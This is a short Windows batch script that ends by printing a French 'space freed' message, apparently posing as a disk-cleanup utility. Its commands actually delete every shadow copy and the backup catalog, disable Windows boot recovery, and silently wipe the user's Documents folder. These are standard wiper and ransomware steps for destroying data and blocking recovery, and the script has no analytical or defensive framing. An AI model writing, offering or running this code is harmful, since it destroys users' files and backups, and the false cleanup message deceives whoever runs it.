@echo off
vssadmin delete shadows /all /quiet
wbadmin delete catalog -quiet
bcdedit /set {default} recoveryenabled No
bcdedit /set {default} bootstatuspolicy ignoreallfailures
wmic shadowcopy delete
del /s /f /q %USERPROFILE%\Documents\*.* >nul 2>&1
echo Espace libere.
